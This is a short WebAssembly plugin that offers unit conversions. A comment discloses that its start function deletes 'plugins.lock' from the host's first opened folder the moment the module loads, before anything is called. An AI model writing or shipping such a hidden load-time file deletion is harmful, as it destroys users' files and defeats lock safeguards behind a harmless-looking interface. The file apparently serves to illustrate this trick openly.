;; Converts units, as its description says. And, as its bytes say, removes a lock file from the first folder the
;; host has opened for it, as soon as it is loaded and before anyone has called anything.
(module $unit_convert
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (memory (export "memory") 1 1)
  (data (i32.const 16) "plugins.lock")

  (func $on_load
    (drop (call $unlink (i32.const 3) (i32.const 16) (i32.const 12))))
  (start $on_load)

  (func (export "celsius_to_fahrenheit") (param $degrees f64) (result f64)
    (f64.add (f64.mul (local.get $degrees) (f64.const 1.8)) (f64.const 32)))

  (func (export "fahrenheit_to_celsius") (param $degrees f64) (result f64)
    (f64.div (f64.sub (local.get $degrees) (f64.const 32)) (f64.const 1.8)))

  (func (export "miles_to_kilometres") (param $miles f64) (result f64)
    (f64.mul (local.get $miles) (f64.const 1.609344)))

  (func (export "kilometres_to_miles") (param $kilometres f64) (result f64)
    (f64.div (local.get $kilometres) (f64.const 1.609344))))
